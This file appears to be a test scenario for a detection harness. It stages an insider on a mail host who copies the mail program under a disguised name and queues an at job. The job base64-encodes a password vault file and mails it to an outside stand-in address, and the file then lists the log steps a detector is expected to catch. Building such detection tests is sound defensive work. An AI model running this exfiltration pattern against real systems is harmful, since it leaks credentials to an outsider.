# A renamed copy of the mail program, run by at(1).
title="Renamed copy of the mail program used in an at job"
what="clerk's account copies /usr/bin/bsd-mailx to ~/.cache/fc-update and runs it from an at job: it mails the base64 of a key file to an outside mailbox. The name says nothing; it calls the system's sendmail all the same."
host=mx1.example.org user=clerk daemons="cron atd sshd" syslog_format=iso

setup() { head -c 4000 /dev/urandom > /home/clerk/vault.kdbx; chown clerk: /home/clerk/vault.kdbx; }
act() {
  small_talk 3
  ssh_as clerk <<'L'
mkdir -p .cache; cp /usr/bin/bsd-mailx .cache/fc-update
echo 'base64 vault.kdbx | .cache/fc-update -s "fonts" fonts@example.com; rm .cache/fc-update' | at now
L
  wait_log 'to=<fonts@example.com>.*status=sent' 30
  small_talk 2
}
truth() {
  exec_step copy 'cp /usr/bin/bsd-mailx .cache/fc-update' 'the mail program gets another name'
  exec_step encode 'base64 vault.kdbx' 'the at job encodes a file'
  exec_step hand-over 'fc-update -s fonts fonts@example.com' 'the renamed program sends it'
  exec_step sendmail 'sendmail' 'through the system sendmail'
  mail_step sent 'to=<fonts@example.com>.*status=sent' 'Postfix delivers outside'
}
